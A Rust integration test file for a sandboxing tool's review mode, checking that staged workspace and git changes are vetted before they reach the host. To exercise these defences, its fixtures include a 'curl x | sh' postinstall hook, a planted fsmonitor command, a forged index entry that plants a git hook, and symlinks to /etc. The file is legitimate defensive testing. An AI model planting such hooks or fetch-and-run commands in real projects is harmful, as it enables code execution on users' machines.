//! `run --review` and `qwrap review`: the workspace (its git dir included)
//! byte-identical on the host until apply, whatever the command did;
//! apply's result the same as the command's in the live mode; a link made
//! inside never followed; a host change meanwhile refused and named; the
//! files that choose code a host tool runs named and asked for. As root and
//! unprivileged, on both mount APIs where the mounts differ.

mod common;

use common::*;

const GIT: &str = "git -c user.name=t -c user.email=t@t -c init.defaultBranch=main";

/// A checkout in `dir` (relative to the fixture) with two commits, an
/// uncommitted change and an untracked file.
fn checkout(f: &Fixture, dir: &str) {
    let script = format!(
        "set -e; cd '{}'
         {GIT} init -q . && echo a > a.txt && mkdir -p sub keep && echo b > sub/b.txt && echo k > keep/k
         printf '#!/bin/sh\\necho hi\\n' > run.sh && chmod 755 run.sh
         {GIT} add -A && {GIT} commit -qm one && echo c > c.txt && {GIT} add c.txt && {GIT} commit -qm two
         echo dirty >> a.txt && echo u > untracked.txt",
        f.path().join(dir).display()
    );
    ok(&f.command("sh").args(["-c", &script]).output().unwrap());
    // A run compares the host's changes with its start at the kernel's
    // coarse clock (a tick of a few ms), counting the start's own tick as
    // changed: the checkout's last writes are kept out of that tick.
    std::thread::sleep(std::time::Duration::from_millis(50));
}

fn review(f: &Fixture, args: &[&str]) -> std::process::Output {
    let mut c = f.qwrap(&["review"]);
    c.args(args);
    c.output().unwrap()
}

/// What a command does to a checkout: files changed, made, removed and
/// replaced by links and directories, a mode changed, a commit (dates
/// fixed, so that two runs make the same objects). A FIFO is refused in
/// the workspace by Landlock in both modes (host tools would wait on it).
const EDITS: &str = "set -e
    echo more >> a.txt; echo new > new.txt; mkdir -p deep/er && echo d > deep/er/d.txt
    rm -rf sub; ln -s a.txt alias; chmod 644 run.sh; rm c.txt; mkdir c.txt; echo inside > c.txt/f
    git add -A && git -c user.name=t -c user.email=t@t commit -qm inside
    echo later > later.txt; mkfifo pipe 2>/dev/null || true";

const DATES: [&str; 6] = [
    "--setenv",
    "GIT_AUTHOR_DATE",
    "2020-01-01T00:00:00Z",
    "--setenv",
    "GIT_COMMITTER_DATE",
    "2020-01-01T00:00:00Z",
];

/// `rm -rf ./* .git`, `git reset --hard`, the reflog expired and gc'd:
/// the host's workspace byte-identical after each, until apply; host git
/// sees nothing meanwhile. Then apply takes it all.
#[test]
fn the_host_workspace_is_untouched_until_apply() {
    for who in Who::all() {
        for api in APIS {
            let f = Fixture::new(who);
            checkout(&f, "ws");
            let before = tree(&f.ws(), &[]);
            for script in [
                "git reset -q --hard && git status --short",
                "git reflog expire --all --expire=now && git gc -q --prune=now && git count-objects -v | grep -q '^count: 0'",
                "rm -rf ./* .git && test -z \"$(ls -A)\"",
            ] {
                ok(&f.run_sh(api, &["--review"], script));
                assert_eq!(tree(&f.ws(), &[]), before, "{who:?} {api}: {script}");
            }
            // Host git, as an editor polls it: an index it rewrites with the
            // same entries (read-tree: the stat data zeroed, then `status`
            // refreshes it) is no conflict at apply.
            ok(&f.command("git").args(["read-tree", "HEAD"]).output().unwrap());
            let st = f.command("git").args(["status", "--porcelain"]).output().unwrap();
            assert_ne!(
                tree(&f.ws(), &[])[".git/index"],
                before[".git/index"],
                "the index was not rewritten"
            );
            assert_eq!(stdout(&st), " M a.txt\n?? untracked.txt\n", "{who:?} {api}");
            let list = stdout(&review(&f, &["list"]));
            assert!(
                list.contains("    1  ") && list.contains("    3  "),
                "{who:?} {api}: {list}"
            );
            // Several pending: one must be named.
            let o = review(&f, &["diff"]);
            assert_eq!(o.status.code(), Some(1));
            assert!(
                stderr(&o).contains("3 pending layers (1, 2, 3)"),
                "{}",
                stderr(&o)
            );
            let d = ok(&review(&f, &["diff", "3", "--stat"]));
            assert!(d.contains("  D .git/\n") && d.contains("  D a.txt\n"), "{d}");
            ok(&review(&f, &["discard", "1"]));
            ok(&review(&f, &["discard", "2"]));
            // A staging change on the host since is one.
            let index = f.ws().join(".git/index");
            let kept = std::fs::read(&index).unwrap();
            ok(&f
                .command("git")
                .args(["rm", "-q", "--cached", "c.txt"])
                .output()
                .unwrap());
            let o = review(&f, &["apply", "3", "--yes"]);
            assert!(
                stderr(&o).contains(".git/index in it changed on the host"),
                "{who:?} {api}: {}",
                stderr(&o)
            );
            std::fs::write(&index, kept).unwrap();
            // It removes the git dir, the history with it: refused, named.
            let o = review(&f, &["apply", "3", "--yes"]);
            assert_eq!(o.status.code(), Some(1), "{who:?} {api}: {}", stdout(&o));
            assert!(
                stderr(&o).contains(".git: a git dir, or its refs or objects, removed"),
                "{who:?} {api}: {}",
                stderr(&o)
            );
            // (The index aside: host git rewrote it above.)
            let but_index = |mut t: std::collections::BTreeMap<String, String>| {
                t.remove(".git/index");
                t
            };
            assert_eq!(
                but_index(tree(&f.ws(), &[])),
                but_index(before.clone()),
                "{who:?} {api}: applied in part"
            );
            ok(&review(&f, &["discard", "3"]));
            assert!(stdout(&review(&f, &["list"])).contains("no pending review layers"));
        }
    }
}

/// apply's result is the live mode's: the same command run live in a copy
/// of the checkout leaves the same tree (the index aside, which holds
/// inode numbers and times).
#[test]
fn apply_gives_what_the_live_mode_gives() {
    for who in Who::all() {
        for api in APIS {
            let f = Fixture::new(who);
            checkout(&f, "ws");
            ok(&f
                .command("cp")
                .args(["-a", "ws", "live"])
                .current_dir(f.path())
                .output()
                .unwrap());
            let live = f.path().join("live");
            let mut opts = vec!["--review"];
            opts.extend(DATES);
            ok(&f.run_sh(api, &opts, EDITS));
            let mut c = f.qwrap(&["run", "--workspace", live.to_str().unwrap()]);
            c.args(DATES)
                .args(["--", "sh", "-c", EDITS])
                .env("QWRAP_MOUNT_API", api);
            ok(&c.output().unwrap());
            let d = ok(&review(&f, &["diff"]));
            for line in [
                "  M a.txt",
                "  A new.txt",
                "  D sub/",
                "  A alias -> a.txt (symlink)",
                "  m run.sh (mode 100755 -> 100644)",
                "  T c.txt/ (was a file)",
                "  ref refs/heads/main: ",
                " inside\n",
                "+more\n",
                // What the new commit holds: its files and its patch.
                "    what they hold:\n",
                "      |  new.txt ",
                "      | +new\n",
            ] {
                assert!(d.contains(line), "{who:?} {api}: no {line:?} in\n{d}");
            }
            ok(&review(&f, &["apply", "--yes"]));
            let skip = [".git/index"];
            assert_eq!(tree(&f.ws(), &skip), tree(&live, &skip), "{who:?} {api}");
            let log = f.command("git").args(["log", "--format=%s"]).output().unwrap();
            assert_eq!(stdout(&log), "inside\ntwo\none\n");
        }
    }
}

/// Links the command made are written as links and never followed: one
/// in place of a file, pointing at a file outside the workspace; one in
/// place of a directory, pointing at a directory outside. A host directory
/// swapped for a link before apply is refused, named, and not written
/// through.
#[test]
fn apply_never_follows_a_link() {
    for who in Who::all() {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        f.write("outside.txt", "keep\n", 0o666);
        f.mkdir("outdir");
        f.write("outdir/o", "keep\n", 0o666);
        let outside = f.path().join("outside.txt");
        let outdir = f.path().join("outdir");
        let script = format!(
            "rm a.txt && ln -s {o} a.txt && rm -rf sub && ln -s {d} sub && echo x > keep/new",
            o = outside.display(),
            d = outdir.display()
        );
        ok(&f.run_sh("new", &["--review"], &script));
        let before = tree(f.path(), &["ws", "home"]);
        ok(&review(&f, &["apply", "--yes"]));
        assert_eq!(std::fs::read_link(f.ws().join("a.txt")).unwrap(), outside);
        assert_eq!(std::fs::read_link(f.ws().join("sub")).unwrap(), outdir);
        assert_eq!(
            tree(f.path(), &["ws", "home"]),
            before,
            "{who:?}: written through a link"
        );
        assert_eq!(std::fs::read_to_string(f.ws().join("keep/new")).unwrap(), "x\n");

        // The host swaps a directory the layer writes into for a link.
        ok(&f.run_sh("new", &["--review"], "echo y > keep/other"));
        std::fs::rename(f.ws().join("keep"), f.path().join("keep-moved")).unwrap();
        std::os::unix::fs::symlink(&outdir, f.ws().join("keep")).unwrap();
        let o = review(&f, &["apply", "--yes"]);
        assert_eq!(o.status.code(), Some(1), "{who:?}");
        assert!(stderr(&o).contains("keep"), "{who:?}: {}", stderr(&o));
        assert!(
            !outdir.join("other").exists(),
            "{who:?}: written through the host's link"
        );
        assert_eq!(tree(f.path(), &["ws", "home", "keep-moved"]), before);
    }
}

/// A file the host changed (or removed) since the run started is named and
/// nothing is written; the host's change stays.
#[test]
fn a_host_change_meanwhile_is_refused_and_named() {
    for who in Who::all() {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        ok(&f.run_sh(
            "new",
            &["--review"],
            "echo layer >> a.txt && echo layer > c.txt && echo n > n.txt",
        ));
        f.write("ws/a.txt", "host\n", 0o644);
        std::fs::remove_file(f.ws().join("c.txt")).unwrap();
        let d = ok(&review(&f, &["diff"]));
        assert!(
            d.contains("a.txt: changed on the host since the run started"),
            "{d}"
        );
        let o = review(&f, &["apply", "--yes"]);
        assert_eq!(o.status.code(), Some(1), "{who:?}");
        let e = stderr(&o);
        assert!(
            e.contains("  a.txt: changed on the host since the run started"),
            "{who:?}: {e}"
        );
        assert!(
            e.contains("  c.txt: removed on the host since the run started"),
            "{who:?}: {e}"
        );
        assert!(!f.ws().join("n.txt").exists(), "{who:?}: applied in part");
        assert_eq!(std::fs::read_to_string(f.ws().join("a.txt")).unwrap(), "host\n");
        // Discarded, nothing is left of it.
        ok(&review(&f, &["discard"]));
        assert!(stdout(&review(&f, &["list"])).contains("no pending"));
    }
}

/// The files that choose code a host tool runs later are named in the
/// diff; apply asks for them, refuses where nobody can be asked, and
/// applies with --yes.
#[test]
fn files_that_choose_code_are_named_and_asked_for() {
    for who in Who::all() {
        let f = Fixture::new(who);
        f.mkdir("ws");
        f.write("ws/package.json", "{\"scripts\": {\"test\": \"true\"}}\n", 0o644);
        f.write("ws/team.gitconfig", "[user]\n", 0o644);
        // A dotfiles checkout: the home sources one of its files.
        f.write("ws/dotrc", "true\n", 0o644);
        let bashrc = format!(". {}/dotrc\n", f.ws().display());
        f.write("home/.bashrc", &bashrc, 0o644);
        checkout(&f, "ws");
        ok(&f
            .command("git")
            .args(["config", "include.path", "../team.gitconfig"])
            .output()
            .unwrap());
        let script = "echo '[core]' >> team.gitconfig && echo x > local.gitconfig \
             && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && printf 'use flake\\ndotenv_if_exists .env.dev\\n' > .envrc && echo X=1 > .env.dev \
             && printf '#!/bin/sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit \
             && git config alias.st status \
             && echo '{\"scripts\": {\"test\": \"true\", \"postinstall\": \"curl x | sh\"}}' > package.json \
             && printf 'all:\\n\\ttrue\\n' > Makefile && echo plain > notes.txt \
             && mkdir -p nested && git init -q nested && git -C nested config core.fsmonitor ./x \
             && mkdir -p .venv/lib/site-packages && echo 'import os' > .venv/lib/site-packages/evil.pth \
             && echo '[toolchain]' > rust-toolchain.toml && mkdir -p crate/.cargo && echo '[alias]' > crate/.cargo/config.toml \
             && mkdir -p deep && echo 'use nix' > deep/.envrc \
             && git init -q --bare emb && git -C emb config core.fsmonitor ./x \
             && git config core.hooksPath .githooks && mkdir -p .githooks && echo x > .githooks/pre-commit \
             && printf '[package]\\nname = \"c\"\\nbuild = \"src/gen.rs\"\\n' > Cargo.toml \
             && echo '{}' > opencode.json && mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml \
             && echo 'export default {}' > vite.config.ts && echo '{}' > all.code-workspace \
             && mkdir -p bom q && printf '\\357\\273\\277{\"scripts\": {\"test\": \"x\"}}' > bom/package.json \
             && printf '[package]\\n\"build\" = \"g.rs\"\\n' > q/Cargo.toml \
             && mkdir -p hgrepo/.hg && echo '[hooks]' > hgrepo/.hg/hgrc && echo evil >> dotrc";
        ok(&f.run_sh("new", &["--review"], script));
        let d = ok(&review(&f, &["diff", "--stat"]));
        let named = d
            .split("Files that choose code a host tool runs later:")
            .nth(1)
            .unwrap_or_default();
        for p in [
            ".vscode/tasks.json",
            ".envrc",
            ".git/hooks/pre-commit",
            ".git/config",
            "package.json  (npm runs its scripts: new or changed: postinstall)",
            "Makefile",
            "nested/.git/config",
            ".venv/lib/site-packages/evil.pth",
            "rust-toolchain.toml",
            "crate/.cargo/config.toml",
            "deep/.envrc",
            "emb/config",
            ".githooks/pre-commit",
            "Cargo.toml",
            "opencode.json",
            ".github/workflows/ci.yml",
            "vite.config.ts",
            "all.code-workspace",
            "bom/package.json",
            "q/Cargo.toml",
            "team.gitconfig  (host git reads it as its own config",
            ".env.dev  (direnv loads it from .envrc",
            "hgrepo/.hg/hgrc  (Mercurial's config",
            "dotrc  (the home names it",
        ] {
            assert!(named.contains(p), "{who:?}: {p} not named in\n{d}");
        }
        assert!(!named.contains("notes.txt"), "{d}");
        let o = review(&f, &["apply"]);
        assert_eq!(o.status.code(), Some(1), "{who:?}");
        assert!(stderr(&o).contains("stdin is not a terminal"), "{}", stderr(&o));
        assert!(!f.ws().join(".envrc").exists());
        ok(&review(&f, &["apply", "--yes"]));
        assert!(f.ws().join(".git/hooks/pre-commit").exists());
        assert!(f.ws().join(".vscode/tasks.json").exists());
    }
}

/// A linked worktree: its common dir (outside the workspace) is overlaid
/// too: a commit inside moves no host ref until apply.
#[test]
fn a_linked_worktree_keeps_its_common_dir_in_the_layer() {
    for who in Who::all() {
        let f = Fixture::new(who);
        f.mkdir("repo");
        checkout(&f, "repo");
        let script = format!(
            "cd '{}' && {GIT} commit -qam dirty && {GIT} worktree add -q '{}' -b side",
            f.path().join("repo").display(),
            f.path().join("wt").display()
        );
        ok(&f.command("sh").args(["-c", &script]).output().unwrap());
        let wt = f.path().join("wt");
        let common = f.path().join("repo/.git");
        let before = (tree(&wt, &[]), tree(&common, &[]));
        let mut c = f.qwrap(&["run", "--review", "--workspace", wt.to_str().unwrap()]);
        c.args([
            "--",
            "sh",
            "-c",
            "echo w >> a.txt && git -c user.name=t -c user.email=t@t commit -qam w",
        ]);
        ok(&c.output().unwrap());
        assert_eq!((tree(&wt, &[]), tree(&common, &[])), before, "{who:?}");
        let mut c = f.qwrap(&["review", "apply", "--yes", "--workspace", wt.to_str().unwrap()]);
        ok(&c.output().unwrap());
        let log = f
            .command("git")
            .args(["log", "-1", "--format=%s", "side"])
            .current_dir(&wt)
            .output()
            .unwrap();
        assert_eq!(stdout(&log), "w\n", "{who:?}");
        let st = f
            .command("git")
            .args(["status", "--porcelain"])
            .current_dir(&wt)
            .output()
            .unwrap();
        assert_eq!(stdout(&st), "", "{who:?}");
    }
}

/// overlayfs in a user namespace refuses a lower layer with mounts beneath
/// it: run fails closed (125) and says why, leaving nothing behind.
#[test]
fn a_mount_beneath_the_workspace_fails_closed() {
    if !rustix::process::geteuid().is_root() {
        println!("SKIP: mounting on the host needs root");
        return;
    }
    for who in Who::all() {
        let f = Fixture::new(who);
        let mnt = f.mkdir("ws/mnt");
        let mounted = std::process::Command::new("mount")
            .args(["-t", "tmpfs", "qwrap-test", mnt.to_str().unwrap()])
            .status()
            .unwrap();
        assert!(mounted.success());
        let o = f.run_sh("new", &["--review"], "echo x > y");
        std::process::Command::new("umount").arg(&mnt).status().unwrap();
        assert_eq!(o.status.code(), Some(125), "{who:?}: {}", stderr(&o));
        let e = stderr(&o);
        assert!(e.contains("mounts beneath it (") && e.contains("\nhint: "), "{e}");
        assert!(!f.ws().join("y").exists());
        assert!(stdout(&review(&f, &["list"])).contains("no pending"));
    }
}

/// A run that changed nothing leaves no pending layer (its directories
/// are kept idle for the next run, which reuses them: the volatile
/// overlay's mark is gone); one that changed something is named at exit.
#[test]
fn a_run_that_changes_nothing_leaves_no_layer() {
    for who in Who::all() {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        for _ in 0..3 {
            let o = f.run_sh("new", &["--review"], "cat a.txt >/dev/null");
            assert!(!stderr(ok_o(&o)).contains("review:"), "{who:?}: {}", stderr(&o));
            assert!(stdout(&review(&f, &["list"])).contains("no pending"), "{who:?}");
        }
        let o = f.run_sh("legacy", &["--review"], "echo x > x.txt");
        assert!(
            stderr(ok_o(&o)).contains("qwrap: review: the run's changes are kept in layer 1,"),
            "{who:?}: {}",
            stderr(&o)
        );
        assert!(ok(&review(&f, &["diff", "1"])).contains("  A x.txt"), "{who:?}");
        assert!(!f.ws().join("x.txt").exists());
    }
}

/// The review layers stay out of every sandbox's reach, whatever the home
/// view: absent from the listed home, hidden in the whole-home views (a
/// pending layer holds what a run wrote in its workspace, which another
/// workspace's command must not read).
#[test]
fn no_sandbox_reads_the_review_layers() {
    for who in Who::all() {
        for api in APIS {
            let f = Fixture::new(who);
            checkout(&f, "ws");
            ok(&f.run_sh(api, &["--review"], "echo secret > planted.txt"));
            let reviews = f.home().join(".local/state/qwrap/reviews");
            assert!(reviews.is_dir(), "{who:?} {api}: no layer");
            let script = format!(
                "cat {0}/*/*/0/upper/planted.txt 2>/dev/null && echo READ; ls -A {0} 2>/dev/null | grep -q . && echo LISTED; true",
                reviews.display()
            );
            for home in ["listed", "readonly", "overlay"] {
                let out = ok(&f.run_sh(api, &["--home", home], &script));
                assert_eq!(out, "", "{who:?} {api} --home {home}");
            }
        }
    }
}

/// The output, once it succeeded.
#[track_caller]
fn ok_o(o: &std::process::Output) -> &std::process::Output {
    ok(o);
    o
}

/// inspect and the receipt say the mode; verify checks that a write in
/// review mode stays off the host; no report leaves a layer behind.
#[test]
fn the_reports_say_the_mode() {
    let f = Fixture::new(Who::User);
    checkout(&f, "ws");
    let text = ok(&f.qwrap(&["inspect", "--review"]).output().unwrap());
    assert!(
        text.contains("  workspace: applied (review (--review from --review)"),
        "{text}"
    );
    assert!(text.contains("review = true  [from --review]"), "{text}");
    let text = ok(&f.qwrap(&["inspect"]).output().unwrap());
    assert!(text.contains("  workspace: applied (live:"), "{text}");
    let text = stdout(&f.qwrap(&["verify", "--review"]).output().unwrap());
    assert!(
        text.contains("PASS a write in review mode stays off the host's workspace"),
        "{text}"
    );
    let text = stdout(&f.qwrap(&["verify"]).output().unwrap());
    assert!(
        text.contains("SKIP a write in review mode stays off the host's workspace: live mode"),
        "{text}"
    );
    let o = f
        .qwrap(&["receipt", "--json", "--review"])
        .env("QWRAP_REVIEW", "1")
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v["workspace_mode"], "review");
    assert!(
        stdout(&review(&f, &["list"])).contains("no pending"),
        "a report left a layer"
    );
    let o = f
        .qwrap(&["run", "--", "true"])
        .env("QWRAP_REVIEW", "maybe")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("$QWRAP_REVIEW"), "{}", stderr(&o));
}

/// A loose object's directory swapped for a link to a planted object, and
/// a FIFO in place of an object: the diff lists them, apply leaves them
/// out, and the host's git dir holds nothing but files and directories
/// (host git would read the planted object, or wait on the FIFO).
#[test]
fn links_and_fifos_in_a_git_dir_are_never_applied() {
    for who in Who::all() {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        let script = "set -e; o=$(git rev-parse HEAD); d=.git/objects/$(echo $o | cut -c1-2)
             mkdir -p planted; cp -r $d/. planted/; rm -rf $d; ln -s ../../planted $d
             ln -s /etc .git/objects/pack/evil-link; echo done";
        let o = f.run_sh("new", &["--review"], script);
        assert!(stdout(&o).contains("done"), "{who:?}: {}", stderr(&o));
        let d = ok(&review(&f, &["diff"]));
        assert!(d.contains("which host git would read through"), "{who:?}: {d}");
        ok(&review(&f, &["apply", "--yes"]));
        let mut odd = Vec::new();
        let mut stack = vec![f.ws().join(".git")];
        while let Some(dir) = stack.pop() {
            for e in std::fs::read_dir(&dir).unwrap().flatten() {
                let t = e.file_type().unwrap();
                if t.is_dir() {
                    stack.push(e.path());
                } else if !t.is_file() {
                    odd.push(e.path());
                }
            }
        }
        assert!(odd.is_empty(), "{who:?}: applied into the git dir: {odd:?}");
        let h = f
            .command("timeout")
            .args(["20", "git", "log", "-1", "--format=%s"])
            .output()
            .unwrap();
        assert!(h.status.success(), "{who:?}: host git: {}", stderr(&h));
    }
}

/// A hard link made inside to a file the host has (a copied-up file by a
/// new name) is a new file, not a host removal; a sparse file keeps its
/// holes; a file the command made unreadable to itself still applies,
/// with its mode.
#[test]
fn links_sparse_and_unreadable_files_apply() {
    for who in Who::all() {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        let script = "ln a.txt hard && truncate -s 1G sparse && echo tail >> sparse \
             && mkdir -p s && echo secret > s/u && chmod 000 s/u";
        ok(&f.run_sh("new", &["--review"], script));
        let d = ok(&review(&f, &["diff", "--stat"]));
        assert!(!d.contains("Changed on the host"), "{who:?}: {d}");
        ok(&review(&f, &["apply", "--yes"]));
        assert_eq!(
            std::fs::read_to_string(f.ws().join("hard")).unwrap(),
            "a\ndirty\n"
        );
        let sparse = std::fs::metadata(f.ws().join("sparse")).unwrap();
        use std::os::unix::fs::MetadataExt;
        assert_eq!(sparse.len(), (1 << 30) + 5, "{who:?}");
        assert!(
            sparse.blocks() < 1024,
            "{who:?}: {} blocks: written whole",
            sparse.blocks()
        );
        let u = std::fs::metadata(f.ws().join("s/u")).unwrap();
        assert_eq!(u.mode() & 0o777, 0, "{who:?}");
        assert_eq!(std::fs::read_to_string(f.ws().join("s/u")).unwrap(), "secret\n");
    }
}

/// A link the command made that leads host git out of the workspace to a
/// repository it planted where it writes (a shared cache), or through
/// /proc/self/cwd, is never applied: apply refuses, names it, and the
/// host's workspace gets no link; host git through where it would have
/// led runs nothing planted.
#[test]
fn links_leading_host_git_out_are_never_applied() {
    for who in Who::all() {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        let hit = f.path().join("fsmonitor-ran");
        let script = format!(
            "set -e; git init -q $HOME/.cache/evil && git -C $HOME/.cache/evil config core.fsmonitor 'touch {}'
             ln -s $HOME/.cache/evil tools; ln -s \"/proc/self/cwd/$(printf '../%.0s' $(seq 40))$HOME/.cache/evil\" pc",
            hit.display()
        );
        ok(&f.run_sh("new", &["--review", "--cache", "shared"], &script));
        let o = review(&f, &["apply", "--yes"]);
        let what = format!("{who:?}");
        assert!(!o.status.success(), "{what}: applied: {}", stderr(&o));
        for link in ["tools", "pc"] {
            assert!(
                stderr(&o).contains(&format!("{link}: a link")),
                "{what}: {link} not named: {}",
                stderr(&o)
            );
            assert!(
                std::fs::symlink_metadata(f.ws().join(link)).is_err(),
                "{what}: {link} applied"
            );
            let _ = f
                .command("sh")
                .args(["-c", &format!("cd {link} && git status")])
                .output();
        }
        assert!(!hit.exists(), "{what}: a host git ran the planted fsmonitor");
    }
}

/// `review apply` keeps what host git keeps for a checkout outside the
/// workspace as the live guard does: the main checkout's branch, the one
/// it goes back to and the stash, moved inside, are refused, named, and
/// stay the host's.
#[test]
fn apply_leaves_the_branches_of_checkouts_outside_alone() {
    let moves = [
        "git update-ref refs/heads/main HEAD && git update-ref -d refs/stash",
        // The main checkout's own refs, among the shared ones.
        "git update-ref main-worktree/refs/bisect/bad HEAD",
        // A symbolic ref to its branch: the user's next commit here would
        // move it.
        "echo 'ref: refs/heads/main' > \"$(git rev-parse --git-dir)/HEAD\"",
        "git symbolic-ref refs/heads/side refs/heads/main",
        // The branch it goes back to with `git checkout -`.
        "git update-ref refs/heads/prev HEAD",
    ];
    for (who, moves) in Who::all().into_iter().flat_map(|w| moves.map(|m| (w, m))) {
        let f = Fixture::new(who);
        f.mkdir("repo");
        checkout(&f, "repo");
        let script = format!(
            "cd '{}' && git branch prev && git checkout -q prev && git checkout -q main && {GIT} commit -qam dirty && echo s >> a.txt && {GIT} stash -q && {GIT} worktree add -q '{}' -b side",
            f.path().join("repo").display(),
            f.path().join("wt").display()
        );
        ok(&f.command("sh").args(["-c", &script]).output().unwrap());
        let wt = f.path().join("wt");
        let rev = |r: &str| {
            let o = f
                .command("git")
                .args(["rev-parse", r])
                .current_dir(&wt)
                .output()
                .unwrap();
            stdout(&o)
        };
        let before = (
            rev("main"),
            rev("refs/stash"),
            rev("refs/bisect/bad"),
            rev("prev"),
        );
        let mut c = f.qwrap(&["run", "--review", "--workspace", wt.to_str().unwrap()]);
        c.args(["--", "sh", "-c"]).arg(format!(
            "echo w >> a.txt && git -c user.name=t -c user.email=t@t commit -qam w && {moves}"
        ));
        ok(&c.output().unwrap());
        let o = f
            .qwrap(&["review", "apply", "--yes", "--workspace", wt.to_str().unwrap()])
            .output()
            .unwrap();
        assert!(!o.status.success(), "{who:?}: applied: {}", stderr(&o));
        assert!(
            stderr(&o).contains("outside the workspace"),
            "{who:?}: {}",
            stderr(&o)
        );
        assert_eq!(
            (
                rev("main"),
                rev("refs/stash"),
                rev("refs/bisect/bad"),
                rev("prev")
            ),
            before,
            "{who:?}: {moves}"
        );
    }
}

/// What host git trusts in its git dir is vetted at apply as the live
/// guard vets it: a forged index entry (`.git/hooks/post-commit`) refuses
/// the apply, named, and leaves the host's index; a bit that hides an edit
/// (assume-unchanged) is dropped from the index applied.
#[test]
fn git_files_are_vetted_at_apply() {
    for who in Who::all() {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        let marker = f.path().join("PWNED");
        let index_before = std::fs::read(f.ws().join(".git/index")).unwrap();
        let forge = format!(
            "set -e; blob=$(printf '#!/bin/sh\\ntouch {m}\\n' | git hash-object -w --stdin)
             git update-index --add --cacheinfo 100755,$blob,-git/hooks/post-commit
             perl -pi -e 's{{-git/hooks/post-commit}}{{.git/hooks/post-commit}}' .git/index",
            m = marker.display()
        );
        ok(&f.run_sh("new", &["--review"], &forge));
        let d = ok(&review(&f, &["diff", "--stat"]));
        assert!(d.contains(".git/index: git would refuse it"), "{who:?}: {d}");
        let o = review(&f, &["apply", "--yes"]);
        assert_eq!(o.status.code(), Some(1), "{who:?}: {}", stdout(&o));
        assert_eq!(
            std::fs::read(f.ws().join(".git/index")).unwrap(),
            index_before,
            "{who:?}"
        );
        let h = f
            .command("sh")
            .args([
                "-c",
                "git checkout -- . ; git -c user.name=t -c user.email=t@t commit -q --allow-empty -m h; true",
            ])
            .current_dir(f.ws())
            .output()
            .unwrap();
        assert!(!marker.exists(), "{who:?}: a hook ran: {}", stderr(&h));
        ok(&review(&f, &["discard"]));
        std::thread::sleep(std::time::Duration::from_millis(50));
        // An edit hidden from git status inside is not hidden on the host.
        let hide =
            "set -e; printf 'all:\\n\\ttouch evil\\n' > run.sh; git update-index --assume-unchanged run.sh";
        ok(&f.run_sh("new", &["--review"], hide));
        ok(&review(&f, &["apply", "--yes"]));
        let h = f
            .command("sh")
            .args(["-c", "git status --porcelain; git ls-files -v run.sh"])
            .current_dir(f.ws())
            .output()
            .unwrap();
        let out = stdout(&h);
        assert!(
            out.contains(" M run.sh") && out.contains("H run.sh"),
            "{who:?}: {out}"
        );
    }
}

/// Objects reach the host as a push's would: a loose object rewritten
/// inside under its own name (forged content) refuses the apply, named,
/// and the host's object stays; a new object whose name is not its
/// content's hash never lands under that name; new commits still arrive.
#[test]
fn objects_arrive_as_a_push_would() {
    const FORGE: &str = r#"
import sys, zlib, os
path, body = sys.argv[1], sys.argv[2].encode()
data = zlib.compress(b"blob %d\0" % len(body) + body)
if os.path.exists(path):
    os.chmod(path, 0o644)
os.makedirs(os.path.dirname(path), exist_ok=True)
open(path, "wb").write(data)
"#;
    for who in Who::all() {
        let f = Fixture::new(who);
        checkout(&f, "ws");
        let blob = stdout(
            &f.command("git")
                .args(["rev-parse", "HEAD:a.txt"])
                .current_dir(f.ws())
                .output()
                .unwrap(),
        );
        let blob = blob.trim();
        let obj = format!(".git/objects/{}/{}", &blob[..2], &blob[2..]);
        let before = std::fs::read(f.ws().join(&obj)).unwrap();
        f.write("forge.py", FORGE, 0o644);
        let forge = f.path().join("forge.py");
        let script = format!("python3 {} {obj} 'forged'", forge.display());
        ok(&f.run_sh("new", &["--review"], &script));
        let d = ok(&review(&f, &["diff", "--stat"]));
        assert!(d.contains(&format!("{obj}: git would refuse it")), "{who:?}: {d}");
        let o = review(&f, &["apply", "--yes"]);
        assert_eq!(o.status.code(), Some(1), "{who:?}: {}", stdout(&o));
        assert_eq!(
            std::fs::read(f.ws().join(&obj)).unwrap(),
            before,
            "{who:?}: the host's object rewritten"
        );
        ok(&review(&f, &["discard"]));
        std::thread::sleep(std::time::Duration::from_millis(50));
        // A new object under a name that is not its hash, beside a commit.
        let fake = "1234567890123456789012345678901234567890";
        let script = format!(
            "python3 {} .git/objects/12/{} 'forged'; echo x > x.txt; git add x.txt; git -c user.name=t -c user.email=t@t commit -qm x",
            forge.display(),
            &fake[2..]
        );
        ok(&f.run_sh("new", &["--review"], &script));
        ok(&review(&f, &["apply", "--yes"]));
        assert!(
            !f.ws().join(".git/objects/12").join(&fake[2..]).exists(),
            "{who:?}: a forged object landed"
        );
        let fsck = f
            .command("git")
            .args(["fsck", "--no-dangling"])
            .current_dir(f.ws())
            .output()
            .unwrap();
        assert!(fsck.status.success(), "{who:?}: {}", stderr(&fsck));
        let log = f
            .command("git")
            .args(["log", "-1", "--format=%s"])
            .current_dir(f.ws())
            .output()
            .unwrap();
        assert_eq!(stdout(&log), "x\n", "{who:?}");
    }
}

/// Review mode takes the index by the same rules: a forged cache-tree
/// (a planted tree for an untouched directory) does not reach the user's
/// next host commit after apply.
#[test]
fn a_forged_cache_tree_is_not_applied() {
    const FORGE: &str = include_str!("helpers/forge_cache_tree.py");
    for who in Who::all() {
        let f = Fixture::new(who);
        f.mkdir("ws");
        f.mkdir("ws/sub");
        f.write("ws/sub/s", "s\n", 0o644);
        checkout(&f, "ws");
        let forge = f.write("forge.py", FORGE, 0o644);
        let script = format!(
            "set -e; b=$(printf 'planted\\n' | git hash-object -w --stdin)
             st=$(printf '100644 blob %s\\ts\\n' $b | git mktree)
             r=$(git ls-tree HEAD | awk -v st=$st -F '\\t' '{{ if ($2 == \"sub\") print \"040000 tree \" st \"\\t\" $2; else print }}' | git mktree)
             GIT_INDEX_FILE=/tmp/donor git read-tree $r
